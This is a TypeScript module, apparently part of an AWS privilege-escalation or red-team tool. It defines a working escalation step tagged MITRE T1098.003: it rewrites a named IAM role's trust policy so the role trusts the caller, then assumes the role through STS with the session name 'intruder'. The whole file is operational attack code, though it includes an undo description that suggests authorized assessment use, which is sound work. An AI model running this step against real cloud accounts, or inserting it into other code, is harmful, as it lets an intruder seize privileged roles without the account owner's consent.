/** T1098.003: whoever may rewrite trust policies makes a role trust it, and enters. IAM API Reference: UpdateAssumeRolePolicy; claim DEPART-03. */
import { outputOf } from "../action.ts";
import { sessionIn } from "./assume-role.ts";
import { type Escalation, whenDone } from "./escalation.ts";

/** `role`: name of a role of the account. */
export const updateTrustPolicy = (role: string): Escalation => ({
  id: "update-trust-policy",
  sentence: `rewrite the trust policy of \`${role}\`, enter it`,
  techniques: ["T1098.003", "T1078.004"],
  undo: "put the former trust policy back and end the sessions of the role",
  async climb(hands) {
    const trusted = await whenDone(
      hands.call("iam", "UpdateAssumeRolePolicy", { RoleName: role, PolicyDocument: trusting(hands.arn) }),
      hands,
    );
    if (trusted.kind === "refused") return trusted;
    const RoleArn = `arn:aws:iam::${hands.principal.accountId}:role/${role}`;
    const report = await hands.call("sts", "AssumeRole", { RoleArn, RoleSessionName: "intruder" });
    const output = outputOf(report);
    if (output === undefined) return { kind: "refused", report };
    return { kind: "up", hands: hands.becoming(...sessionIn(output)) };
  },
});

const trusting = (arn: string): string =>
  JSON.stringify({
    Version: "2012-10-17",
    Statement: { Effect: "Allow", Principal: { AWS: arn }, Action: "sts:AssumeRole" },
  });
